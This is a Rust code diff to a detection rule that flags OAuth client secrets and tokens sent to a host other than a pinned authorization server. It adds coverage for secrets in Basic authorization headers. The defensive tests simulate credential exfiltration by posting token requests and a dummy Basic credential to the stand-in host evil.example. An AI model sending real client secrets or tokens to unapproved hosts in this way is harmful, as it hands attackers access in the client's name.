@@ -8,6 +8,7 @@ use url::Url;
 use super::{
     domain::is_below,
     oauth::{AuthorizationServers, Parameters, pinned_for},
+    secrets::presented,
 };
 use crate::mcp::context::{EndpointIndex, Target};
 
@@ -29,7 +30,7 @@ const META: Meta = Meta {
     page: Page {
         means: "A client sent what only its authorization server may see to another host. Who runs that host can now get tokens in the client's name, a refresh token even for weeks.",
         attacker: "Changed the metadata (RED-06, RED-07) or the DNS answer, so that the client's token request went to them.",
-        wire: "A token request (form or JSON) with `refresh_token`, `client_secret`, `client_assertion` or `code_verifier` to a host that no `auth.authorization_servers` names, from a client of an endpoint that pins them, or for such an endpoint by `resource`, or with a secret that went to the pinned server before.",
+        wire: "A token request (form or JSON) with `refresh_token`, `client_secret`, `client_assertion` or `code_verifier` (or the client's secret as `Authorization: Basic`) to a host that no `auth.authorization_servers` names, from a client of an endpoint that pins them, or for such an endpoint by `resource`, or with a secret that went to the pinned server before.",
         act: "Revoke the refresh token and rotate the client secret at the real authorization server now. Then find where the client learned the host: the metadata it fetched before.",
         quiet: "Needs `auth.authorization_servers` in a pin. A client that also logs in to something else than MCP: large public providers are known; list others by host, `rules: {CR-11: {allow: [sso.corp.example]}}`.",
     },
@@ -93,7 +94,12 @@ impl Rule for OauthSecretOffPin {
                     self.clients.insert(client, index);
                 }
             }
-            SeenKind::Document { document, target, .. } => {
+            SeenKind::Document {
+                document,
+                request,
+                target,
+                ..
+            } => {
                 self.servers.learn(seen);
                 if let Some(index) = target.endpoint.filter(with_servers) {
                     self.clients.insert(client, index);
@@ -101,10 +107,21 @@ impl Rule for OauthSecretOffPin {
                 let Some(parameters) = Parameters::of_body(document) else {
                     return;
                 };
-                let Some((kind, secret)) = SECRETS.iter().find_map(|s| Some((*s, parameters.get(s)?))) else {
+                // RFC 6749 section 2.3.1: the secret may be in the header.
+                let basic = || {
+                    parameters.get("grant_type")?;
+                    let head = (*request)?;
+                    let presented = presented(head).find(|p| p.kind == "basic")?;
+                    Some(("client secret (Basic)", presented.secret))
+                };
+                let Some((kind, secret)) = SECRETS
+                    .iter()
+                    .find_map(|s| Some((*s, parameters.get(s)?.as_bytes())))
+                    .or_else(basic)
+                else {
                     return;
                 };
-                let print = world.fingerprints.fingerprint(secret.as_bytes()).to_string();
+                let print = world.fingerprints.fingerprint(secret).to_string();
                 if let Some(index) = pinned_for(target, world) {
                     self.known.insert(print, index);
                     return;
@@ -203,6 +220,27 @@ mod tests {
         let mut bench = Bench::new(OauthSecretOffPin::default(), PINS);
         let form = "grant_type=x&code_verifier=v&resource=https%3A%2F%2Fmcp.example%2Fmcp";
         assert_eq!(posts(&mut bench, "https://evil.example/token", form).len(), 1);
+    }
+
+    #[test]
+    fn fires_on_a_client_secret_in_the_header() {
+        let mut bench = Bench::new(OauthSecretOffPin::default(), PINS);
+        bench.says(INIT);
+        bench.head = request(
+            "POST",
+            "/token",
+            &[("Authorization", "Basic Y2xpZW50OnMzY3IzdHZhbHVl")],
+        );
+        let form = "grant_type=authorization_code&code=c";
+        let found = posts(&mut bench, "https://evil.example/token", form);
+        assert!(
+            found[0]
+                .observed
+                .as_deref()
+                .unwrap()
+                .starts_with("client secret (Basic)")
+        );
+        assert!(!format!("{found:?}").contains("Y2xp"));
     }
 
     #[test]
